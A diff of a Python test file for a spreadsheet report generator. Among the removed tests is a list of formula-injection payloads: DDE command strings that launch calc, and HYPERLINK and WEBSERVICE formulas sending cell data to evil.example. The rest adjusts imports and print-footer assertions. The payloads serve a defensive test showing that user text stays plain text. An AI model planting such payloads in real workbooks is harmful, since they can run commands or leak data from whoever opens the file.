@@ -6,10 +6,10 @@ import hashlib
 import re
 import subprocess
 import sys
-from dataclasses import replace
-from datetime import UTC, date, datetime
+from datetime import date
 from io import BytesIO
 from pathlib import Path
+from typing import TYPE_CHECKING
 from zipfile import ZipFile
 
 import pytest
@@ -17,83 +17,13 @@ from openpyxl import load_workbook
 
 from reports.workbook.file.heights import lines_of
 from reports.workbook.file.styles import NAVY, STATUS_COLOURS
-from reports.workbook.file.text import LONGEST_CELL, clean_text
-from reports.workbook.file.verify import verify_workbook
 from reports.workbook.file.write import workbook_bytes
-from reports.workbook.model import Field, Formula, Line, Link, NamedTable, Sheet, Workbook, WorkbookError
 from reports.workbook.office.book import office_workbook
+from tests.unit.office_books import parts
 from tests.unit.office_school import case, school
 
-STARTS = (
-    "=",
-    "+",
-    "-",
-    "@",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "\u00a0=",
-    "＝",
-    "＋",
-    "－",
-    "＠",
-    "'=",
-    '"=',
-    "|",
-    "%0A=",
-    "\x00=",
-    "\u202e=",
-)
-BODIES = (
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("https://evil.example/?"&A1,"click")',
-    "SUM(1+1)*cmd|' /C calc'!A0",
-    'WEBSERVICE("https://evil.example")',
-    "1",
-    "A1:A9",
-)
-PAYLOADS = [start + body for start in STARTS for body in BODIES]
-NASTY = (
-    "007",
-    "1-2",
-    "1e5",
-    "TRUE",
-    "#N/A",
-    "https://evil.example/x",
-    "mailto:someone@example.edu",
-    "two\tcells\nand\r\nlines",
-    "no\u00a0break",
-    "bell\x07 and null\x00",
-    "emoji 👩🏽‍⚕️ 🎓",
-    "x" * 40_000,
-    "🎓" * 20_000,
-    "_x0041_ is not an escape",
-    "<b>&amp;</b>",
-    "right \u202eleft",
-    "half \ud83d of one",
-    "",
-    "   ",
-    "{=1+1}",
-    "<r><t>=1+1</t></r>",
-)  # fmt: skip
-
-
-def book(*rows: str, **more: object) -> Workbook:
-    """Return a small workbook with one column of outside text."""
-    table = NamedTable(
-        name="Texts",
-        caption="Texts",
-        fields=(Field("Text", "Anything.", width=40, outside=True), Field("Number", "A number.", kind="integer")),
-        rows=tuple((row, number) for number, row in enumerate(rows)),
-        words="Texts people typed.",
-        filtered=True,
-    )
-    sheet = Sheet("Texts", "Texts", "What people typed.", (Line("A line."), table), frozen_columns=1)
-    whole = Workbook(
-        "Texts", (sheet,), datetime(2026, 9, 21, tzinfo=UTC), {"snapshot": "s1"}, "Footer & more", "Keep to yourself."
-    )
-    return replace(whole, **more)
+if TYPE_CHECKING:
+    from reports.workbook.model import Workbook
 
 
 @pytest.fixture(scope="module")
@@ -109,86 +39,6 @@ def content(office: Workbook) -> bytes:
 @pytest.fixture(scope="module")
 def opened(content: bytes):
     return load_workbook(BytesIO(content))
-
-
-def parts(content: bytes, pattern: str) -> dict[str, str]:
-    """Return the parts of a file whose name matches."""
-    with ZipFile(BytesIO(content)) as archive:
-        return {name: archive.read(name).decode() for name in archive.namelist() if re.search(pattern, name)}
-
-
-def test_no_text_from_outside_becomes_a_formula():
-    model = book(*PAYLOADS)
-    assert len(PAYLOADS) >= 100
-    content = workbook_bytes(model)
-    verify_workbook(content, model)
-    assert all("<f>" not in part and "<f " not in part for part in parts(content, r"worksheets/sheet").values())
-    page = load_workbook(BytesIO(content))["Texts"]
-    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
-    assert {cell.data_type for cell in cells} == {"s"}
-    assert all(cell.quotePrefix for cell in cells)
-
-
-def test_text_from_outside_stays_text_after_an_edit_and_a_save():
-    content = workbook_bytes(book(*PAYLOADS))
-    edited = load_workbook(BytesIO(content))
-    edited["Texts"]["B6"] = 99
-    again = BytesIO()
-    edited.save(again)
-    page = load_workbook(BytesIO(again.getvalue()))["Texts"]
-    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
-    assert {cell.data_type for cell in cells} == {"s"}
-    assert all(cell.quotePrefix for cell in cells)
-
-
-def test_nasty_text_is_held_as_a_cell_can_hold_it():
-    model = book(*NASTY)
-    verify_workbook(workbook_bytes(model), model)
-    page = load_workbook(BytesIO(workbook_bytes(model)))["Texts"]
-    held = {text: page.cell(6 + number, 1).value for number, text in enumerate(NASTY)}
-    assert held["007"] == "007"
-    assert held["1-2"] == "1-2"
-    assert held["two\tcells\nand\r\nlines"] == "two cells and lines"
-    assert held["no\u00a0break"] == "no break"
-    assert held["bell\x07 and null\x00"] == "bell and null"
-    assert held["emoji 👩🏽‍⚕️ 🎓"] == "emoji 👩🏽‍⚕️ 🎓"
-    assert held["right \u202eleft"] == "right left"
-    assert held["half \ud83d of one"] == "half  of one"
-    assert held["   "] is None
-    assert page["A10"].hyperlink is None
-
-
-@pytest.mark.parametrize("sign", ["x", "🎓"])
-def test_a_cell_of_40000_characters_is_cut_and_says_so(sign: str):
-    cut = clean_text(sign * 40_000)
-    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_CELL
-    assert cut.endswith("(cut: longer than a cell can hold)")
-    assert cut.startswith(sign * 10_000)
-
-
-def test_clean_text_leaves_ordinary_text_alone():
-    assert clean_text("Núñez-O’Brien, José (MD) ß 王") == "Núñez-O’Brien, José (MD) ß 王"
-
-
-@pytest.mark.parametrize("name", ["", "  ", "x" * 32, "a/b", "what?", "[1]", "it's", "a:b"])
-def test_a_sheet_name_excel_refuses_is_refused_in_one_sentence(name: str):
-    model = book("x")
-    with pytest.raises(WorkbookError, match="is not allowed: give it 1 to 31 characters"):
-        workbook_bytes(replace(model, sheets=(replace(model.sheets[0], name=name),)))
-
-
-def test_a_name_used_twice_is_refused():
-    model = book("x")
-    with pytest.raises(WorkbookError, match="stands twice"):
-        workbook_bytes(replace(model, sheets=(*model.sheets, *model.sheets)))
-
-
-def test_a_link_that_leads_nowhere_is_refused():
-    fields = (Field("Clause", "Link.", kind="link"),)
-    table = NamedTable("Links", "Links", fields, ((Link("A7", sheet="Texts", anchor="A7"),),), "Links.")
-    model = book("x")
-    with pytest.raises(WorkbookError, match="where there is no such row"):
-        workbook_bytes(replace(model, sheets=(*model.sheets, Sheet("Links", "Links", "Links.", (table,)))))
 
 
 def test_the_same_model_gives_the_same_bytes_in_one_process(office: Workbook, content: bytes):
@@ -271,12 +121,15 @@ def test_every_sheet_prints_on_letter_one_page_wide_with_repeated_rows_and_a_foo
     for page in opened.worksheets:
         assert page.page_setup.orientation == "landscape"
         assert int(page.page_setup.paperSize) == 1
-        assert (page.page_setup.fitToWidth or 1, page.page_setup.fitToHeight) == (1, 0)
+        assert (page.page_setup.fitToWidth or 1, page.page_setup.fitToHeight) == (
+            1,
+            None if page.title == "Cover" else 0,
+        )
         assert page.sheet_properties.pageSetUpPr.fitToPage
         assert page.print_title_rows
         assert "Confidential" in page.oddFooter.left.text
-        assert "Page" in page.oddFooter.center.text
-        assert "as of 2026-09-21" in page.oddFooter.right.text
+        assert "as of 2026-09-21" in page.oddFooter.left.text
+        assert "Page" in page.oddFooter.right.text
 
 
 def test_the_worklist_can_be_filtered_sorted_and_scrolled(opened):
@@ -333,65 +186,6 @@ def contrast(one: str, other: str) -> float:
 )
 def test_colours_can_be_read(text: str, ground: str):
     assert contrast(text, ground) >= 4.5
-
-
-def test_verification_refuses_a_file_that_lost_a_cell():
-    model = book("one", "two")
-    with pytest.raises(WorkbookError, match="does not hold what was to be written"):
-        verify_workbook(workbook_bytes(book("one", "2")), model)
-
-
-def test_verification_refuses_a_file_with_a_formula_that_is_not_ours():
-    model = book("=1+1")
-    bad = load_workbook(BytesIO(workbook_bytes(model)))
-    bad["Texts"]["A6"].data_type = "f"
-    target = BytesIO()
-    bad.save(target)
-    with pytest.raises(WorkbookError, match="row 6, column 1"):
-        verify_workbook(target.getvalue(), model)
-
-
-def test_verification_refuses_a_formula_without_its_value():
-    fields = (Field("Sum", "A sum.", kind="integer"),)
-    table = NamedTable("Sums", "Sums", fields, ((Formula("=1+1", 2),), (3,)), "Sums.")
-    model = replace(book("x"), sheets=(Sheet("Sums", "Sums", "Sums.", (table,)),))
-    content = workbook_bytes(model)
-    verify_workbook(content, model)
-    saved = BytesIO()
-    load_workbook(BytesIO(content)).save(saved)
-    with pytest.raises(WorkbookError, match="does not hold what was to be written"):
-        verify_workbook(saved.getvalue(), model)
-
-
-def test_verification_refuses_a_missing_sheet_and_a_row_too_many():
-    model = book("one")
-    with pytest.raises(WorkbookError, match="wanted are"):
-        verify_workbook(
-            workbook_bytes(model), replace(model, sheets=(*model.sheets, replace(model.sheets[0], name="More")))
-        )
-    with pytest.raises(WorkbookError):
-        verify_workbook(workbook_bytes(book("one", "two")), model)
-
-
-def test_verification_refuses_a_table_that_lies_elsewhere():
-    model = book("one", "two")
-    moved = load_workbook(BytesIO(workbook_bytes(model)))
-    moved["Texts"].tables["Texts"].ref = "A5:B6"
-    target = BytesIO()
-    moved.save(target)
-    with pytest.raises(WorkbookError, match="table Texts lies elsewhere"):
-        verify_workbook(target.getvalue(), model)
-
-
-def test_verification_refuses_another_value_of_a_formula():
-    fields = (Field("Sum", "A sum.", kind="integer"),)
-
-    def sums(value: int) -> Workbook:
-        table = NamedTable("Sums", "Sums", fields, ((Formula("=1+1", value),),), "Sums.")
-        return replace(book("x"), sheets=(Sheet("Sums", "Sums", "Sums.", (table,)),))
-
-    with pytest.raises(WorkbookError, match="does not hold"):
-        verify_workbook(workbook_bytes(sums(3)), sums(2))
 
 
 def test_a_row_is_as_high_as_its_text_needs():
